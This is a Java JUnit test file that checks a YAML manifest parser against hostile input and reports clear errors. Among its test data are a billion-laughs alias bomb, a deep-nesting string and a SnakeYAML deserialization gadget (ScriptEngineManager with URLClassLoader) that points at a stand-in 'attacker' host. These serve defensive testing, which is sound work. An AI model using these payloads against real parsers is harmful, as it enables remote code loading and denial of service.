package dev.logship.manifest;

import static org.assertj.core.api.Assertions.assertThat;
import static org.junit.jupiter.api.Assertions.assertTimeoutPreemptively;

import dev.logship.model.Revision;
import dev.logship.model.Snapshot;
import dev.logship.model.SourceFile;
import java.nio.charset.StandardCharsets;
import java.time.Duration;
import java.util.List;
import org.junit.jupiter.api.Test;

/** Hostile input becomes one clear problem, quickly: never an exception, a hang, or a constructed object. */
class HostileYamlTest {

    private static List<String> problemsOf(byte[] content) {
        Snapshot snapshot = new Snapshot(new Revision("dir:x", "x"), List.of(SourceFile.file("evil.yaml", content)));
        return assertTimeoutPreemptively(Duration.ofSeconds(5),
                () -> Manifests.parse(snapshot).problems().stream().map(Problem::toString).toList());
    }

    private static List<String> problemsOf(String text) {
        return problemsOf(text.getBytes(StandardCharsets.UTF_8));
    }

    @Test
    void stopsABillionLaughsAtTheAliasLimit() {
        StringBuilder yaml = new StringBuilder("l0: &l0 [lol, lol, lol, lol, lol, lol, lol, lol, lol]\n");
        for (int level = 1; level < 30; level++) {
            String previous = "*l" + (level - 1);
            yaml.append("l").append(level).append(": &l").append(level).append(" [")
                    .append(String.join(", ", java.util.Collections.nCopies(9, previous))).append("]\n");
        }
        assertThat(problemsOf(yaml.toString())).singleElement().asString()
                .startsWith("evil.yaml:").contains("Number of aliases for non-scalar nodes exceeds the specified max=20");
    }

    @Test
    void stopsDeepNesting() {
        String yaml = "x: " + "[".repeat(100_000) + "]".repeat(100_000);
        assertThat(problemsOf(yaml)).singleElement().asString().contains("Nesting Depth exceeded max 32");
    }

    @Test
    void refusesAHugeFileBeforeParsingIt() {
        byte[] huge = ("a: " + "x".repeat(2 * 1024 * 1024) + "\n").getBytes(StandardCharsets.UTF_8);
        assertThat(problemsOf(huge)).singleElement().asString()
                .isEqualTo("evil.yaml:1:1: (file): file is " + huge.length + " bytes; manifests are limited to 1048576 bytes");
    }

    @Test
    void neverConstructsJavaObjectsFromGlobalTags() {
        String yaml = "x: !!javax.script.ScriptEngineManager [!!java.net.URLClassLoader [[!!java.net.URL [\"http://attacker/\"]]]]\n";
        assertThat(problemsOf(yaml)).singleElement().asString()
                .isEqualTo("evil.yaml:1:4: (yaml): invalid YAML: Global tag is not allowed: tag:yaml.org,2002:javax.script.ScriptEngineManager");
    }

    @Test
    void reportsLocalTagsAtTheirPosition() {
        String yaml = TestSnapshots.cluster("c", "us-east-1").replace("region: us-east-1", "region: !vault secret/region");
        assertThat(problemsOf(yaml)).containsExactly(
                "evil.yaml:6:11: (yaml): custom tag !vault is not allowed: manifests use plain YAML types only");
    }

    @Test
    void reportsInvalidUtf8() {
        byte[] latin1 = "apiVersion: logship.dev/v1\nkind: Cluster\nmetadata:\n  name: caf\u00e9\n".getBytes(StandardCharsets.ISO_8859_1);
        assertThat(problemsOf(latin1)).containsExactly("evil.yaml:4:12: (file): file is not valid UTF-8 (byte 0xE9); save it as UTF-8");
    }

    @Test
    void reportsBinaryFiles() {
        byte[] png = {(byte) 0x89, 'P', 'N', 'G', '\r', '\n', 0x1a, '\n', 0, 0, 0, 13};
        assertThat(problemsOf(png)).containsExactly(
                "evil.yaml:1:1: (file): file looks binary (contains NUL bytes); expected UTF-8 YAML text");
    }

    @Test
    void reportsADocumentThatIsNotAMapping() {
        assertThat(problemsOf("just a string\n")).containsExactly(
                "evil.yaml:1:1: (document): expected a mapping with fields [apiVersion, kind, metadata, spec], got a string");
    }

    @Test
    void reportsSyntaxErrorsWithTheirPosition() {
        assertThat(problemsOf("apiVersion: logship.dev/v1\nkind: [Cluster\n")).singleElement().asString()
                .startsWith("evil.yaml:3:1: (yaml): invalid YAML:");
    }
}
